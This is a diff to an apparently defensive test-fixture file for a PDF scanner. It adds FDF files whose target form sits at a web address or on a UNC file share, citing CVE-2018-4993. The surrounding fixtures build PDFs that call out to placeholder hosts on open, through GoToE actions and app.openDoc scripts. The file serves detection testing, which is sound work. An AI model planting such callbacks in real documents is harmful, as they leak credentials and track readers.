@@ -3,6 +3,7 @@
 // container. Hosts are reserved names (RFC 2606 .example / .test); nothing here resolves.
 // NEGATIVE_CALLBACK_FIXTURES are benign look-alikes the callback floors must leave alone.
 import { PdfBuilder, hexString } from "../../../pdf/testing/pdf-builder";
+import { fdfFile } from "./fixture-documents";
 import type { CarrierFixture, TechniqueFixtures } from "./technique-fixtures";
 
 interface Parts {
@@ -99,6 +100,8 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
     // too few, so the viewer reads `\203.0.113.9<tab>est`, a path from the drive's root opened as the page opens
     "page-open-gotoe-absolute-path": () =>
       letter({ page: `/AA << /O << /S /GoToE /F (\\\\203.0.113.9\\test) /D [0 /Fit] >> >>` }),
+    // an FDF file whose form is a web address: opening the FDF fetches it
+    "fdf-target-remote": () => fdfFile(`/F ${urlSpec("https://forms.example/claim.pdf")}`),
     // no action at all: the image's data lives at a web address the viewer fetches to draw the page
     "external-stream-url": () =>
       letter({
@@ -232,6 +235,8 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
         },
       }),
     "script-opendoc-unc": () => openScript('app.openDoc("\\\\\\\\files.example\\\\share\\\\statement.pdf");'),
+    // an FDF file whose form lives on a file share: opening the FDF opens it (CVE-2018-4993's FDF variant)
+    "fdf-target-unc": () => fdfFile(`/F ${hexString(UNC)}`),
   },
 };
 
